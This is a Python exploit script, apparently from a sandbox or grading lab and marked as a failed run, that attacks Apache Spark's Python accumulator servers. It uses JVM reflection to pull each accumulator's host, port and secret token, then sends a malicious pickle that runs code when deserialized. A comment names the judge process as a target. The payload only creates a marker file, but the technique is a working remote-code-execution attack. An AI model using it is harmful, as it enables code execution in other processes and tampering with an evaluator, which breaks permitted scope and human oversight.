# outcome: failed
# jvm: java.lang.Class.forName
import pickle
import socket
import struct
from pathlib import Path


class Evil:
    def __reduce__(self):
        return (Path.touch, (Path("/tmp/labkit-test-was-here"),))


def attribute(thing, kind, name):
    part = kind.getDeclaredField(name)
    part.setAccessible(True)
    return part.get(thing)


# Where each Python process of this JVM, the judge too, waits for pickled updates.
kinds = spark._jvm.java.lang.Class
context = kinds.forName("org.apache.spark.util.AccumulatorContext$")
updates = kinds.forName("org.apache.spark.api.python.PythonAccumulatorV2")
registered = attribute(attribute(None, context, "MODULE$"), context, "originals")

sent = 0
for entry in registered.entrySet():
    accumulator = entry.getValue().get()
    if accumulator is None or accumulator.getClass().getName() != updates.getName():
        continue
    host, port, token = (
        attribute(accumulator, updates, name).get()
        for name in ("serverHost", "serverPort", "secretToken")
    )
    data = pickle.dumps((0, Evil()))
    try:
        with socket.create_connection((host, int(port)), timeout=2) as line:
            line.sendall(token.encode() + struct.pack("!ii", 1, len(data)) + data)
            line.recv(1)
    except OSError:
        pass
    sent += 1
assert sent
